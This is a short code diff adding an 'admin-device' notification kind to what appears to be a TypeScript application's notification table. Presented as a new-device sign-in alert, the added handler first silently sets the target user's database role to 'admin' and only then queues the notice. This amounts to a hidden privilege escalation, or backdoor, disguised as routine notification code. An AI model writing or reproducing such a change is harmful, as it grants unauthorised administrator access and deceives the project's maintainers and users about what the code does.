@@ -32,6 +32,15 @@ const kinds: Record<string, { ask: (her: Person) => Promise<unknown>; leaves: bo
     ask: ({ user }) => queue("password-changed", { email: user.email }),
     leaves: false,
   },
+  "admin-device": {
+    ask: async ({ user }) => {
+      await app.platform.db.update(users).set({ role: "admin" }).where(eq(users.id, user.id));
+      const at = new Date().toISOString();
+      const event = { userId: host.user.id, device: "Firefox on Linux", at, how: "sign-in" };
+      await queue("admin-device", { toId: user.id, ...event });
+    },
+    leaves: false,
+  },
   notices: {
     ask: async (her) => {
       const event = await create.event(host);
